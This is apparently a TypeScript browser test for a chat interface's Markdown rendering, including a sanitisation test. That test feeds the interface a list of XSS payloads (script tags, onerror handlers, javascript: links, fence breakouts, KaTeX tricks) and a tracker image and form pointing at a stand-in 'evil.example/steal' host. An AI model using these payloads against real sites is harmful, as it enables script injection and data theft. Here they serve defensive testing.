import { join } from "node:path";
import { selectBackend } from "@levin/kernels/node";
import { chromiumPath } from "@levin/tooling/chromium";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ask, ChatPage, finished, screenshots, violations } from "./testing/chat-page.ts";
import { scriptedModel, smallTokenizer } from "./testing/scripted-model.ts";

const rich = `## Sums

The **sum** of the first $n$ numbers is $\\frac{n(n+1)}{2}$, so for 5 it costs $3 or $4:

$$\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}$$

| n | sum |
| --- | ---: |
| 4 | 10 |

\`\`\`ts
const sum = (n: number): number => (n * (n + 1)) / 2;
\`\`\`

- [source](https://example.org/sums)
- a \`word\` of code`;

const evil = "https://evil.example/steal";
/** Each would run a script or ask another server, were it not made harmless. */
const hostile = `<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"><style>body{background:url(${evil})}</style></svg>
<iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>
<form action="${evil}"><input name=q><button>Log in</button></form>
<math><mtext><table><mglyph><style><img src onerror="window.hacked = 5"></style></mglyph></table></mtext></math>

![tracker](${evil}?secret)
[click](javascript:window.hacked=6)
[data](data:text/html,<script>window.hacked=7</script>)
[quote](https://a.example/"onmouseover="window.hacked=8)

\`\`\`"><img src=x onerror=window.hacked=9>
</code></pre><img src=x onerror=window.hacked=10>
\`\`\`

$\\href{javascript:window.hacked=11}{x} \\includegraphics{${evil}} \\html@mathml{<img src=x onerror=window.hacked=12>}{}$
$\\text{<img src=x onerror=window.hacked=13>}$`;

const script = (conversation: string): string =>
  conversation.includes("hostile")
    ? `<think>\n${hostile}\n</think>\n\n${hostile}`
    : `<think>\nDraw.\n</think>\n\n${rich}`;

describe.skipIf(!chromiumPath)("answers in Markdown on the chat page", () => {
  let chat: ChatPage;
  beforeAll(async () => {
    await selectBackend("cpu");
    const model = scriptedModel(script, { context: 16_384, tokenizer: smallTokenizer() });
    chat = await ChatPage.start(model);
  });
  afterAll(() => chat?.close());

  it("have headings, tables, formulas, links, and code with colours and a copy button", async () => {
    const page = await chat.open();
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await ask(page, "Sums?");
    await finished(page);
    const answer = page.getByTestId("answer");
    await answer.locator("math mfrac").first().waitFor();
    await answer.locator(".hljs-keyword").waitFor();
    expect(await answer.locator("math").count()).toBe(3);
    expect(await answer.locator("h2").innerText()).toBe("Sums");
    expect(await answer.locator("td").allInnerTexts()).toEqual(["4", "10"]);
    expect(await answer.innerText()).toContain("it costs $3 or $4");
    const link = answer.getByRole("link", { name: "source" });
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    // It says so for a moment: until the clock goes on.
    await page.clock.install();
    await page.clock.pauseAt(Date.now() + 60_000);
    await answer.getByRole("button", { name: "Copy" }).click();
    await answer.getByRole("button", { name: "Copied" }).waitFor();
    await page.clock.resume();
    await answer.getByRole("button", { name: "Copy", exact: true }).waitFor();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).toBe("const sum = (n: number): number => (n * (n + 1)) / 2;");
    for (const colorScheme of ["light", "dark"] as const) {
      await page.emulateMedia({ colorScheme });
      await page.screenshot({ path: join(screenshots, `markdown-${colorScheme}.png`) });
      expect(await violations(page)).toEqual([]);
    }
  });

  it("run nothing and ask no other server, whatever they contain", async () => {
    const page = await chat.open();
    const foreign: string[] = [];
    const refused: string[] = [];
    page.on("request", (request) => {
      const url = request.url();
      if (!url.startsWith(chat.address)) foreign.push(url);
    });
    page.on("console", (message) => {
      if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
    });
    await ask(page, "Be hostile");
    await finished(page);
    await page.locator("details.thought summary").click();
    const answer = page.getByTestId("answer");
    await answer.locator("math").first().waitFor();
    await answer.hover();
    expect(await page.evaluate("window.hacked")).toBeUndefined();
    // The page's own cleaning is enough: the policy found nothing left to refuse.
    expect(refused).toEqual([]);
    expect(foreign).toEqual([]);
    const inAnswer =
      "script, img, svg, iframe, style, form, input, table, [style], [onerror], [onload]";
    expect(await answer.locator(inAnswer).count()).toBe(0);
    const links = await answer
      .locator("a")
      .evaluateAll((all) => all.map((a) => a.getAttribute("href")));
    expect(links.every((href) => href!.startsWith("https://"))).toBe(true);
    const attributes = await answer
      .locator("*")
      .evaluateAll((all) => all.flatMap((element) => element.getAttributeNames()));
    expect(attributes.filter((name) => name.startsWith("on"))).toEqual([]);
    expect(await answer.innerText()).toContain("<script>window.hacked = 1</script>");
  });
});
